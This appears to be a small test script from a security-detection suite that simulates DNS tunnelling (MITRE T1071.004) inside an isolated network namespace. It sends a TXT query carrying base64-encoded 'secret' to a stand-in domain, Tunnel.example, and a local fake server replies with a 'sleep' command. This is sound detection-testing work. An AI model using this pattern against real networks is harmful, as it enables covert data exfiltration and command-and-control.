#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# technique: T1071.004
. "$(dirname "$0")/common.bash"

# A question for a text, where only this process is the name server.
# shellcheck disable=SC2016 # $1 is the inner shell's
unshare --net sh -c 'ip link set lo up && exec python3 -c "$1"' - '
import socket
def name(text):
    return b"".join(bytes([len(part)]) + part.encode()
                    for part in text.split(".")) + b"\0"
server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
server.bind(("127.0.0.1", 53))
client = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
client.connect(("127.0.0.1", 53))
question = name("c2VjcmV0.Tunnel.example") + b"\0\x10\0\1"
client.send(b"\x12\x34\1\0\0\1\0\0\0\0\0\0" + question)
asked, address = server.recvfrom(512)
answer = b"\xc0\x0c\0\x10\0\1\0\0\0\x3c\0\x06\x05sleep"
server.sendto(asked[:2] + b"\x81\x80\0\1\0\1\0\0\0\0" + question + answer,
              address)
client.recv(512)
'
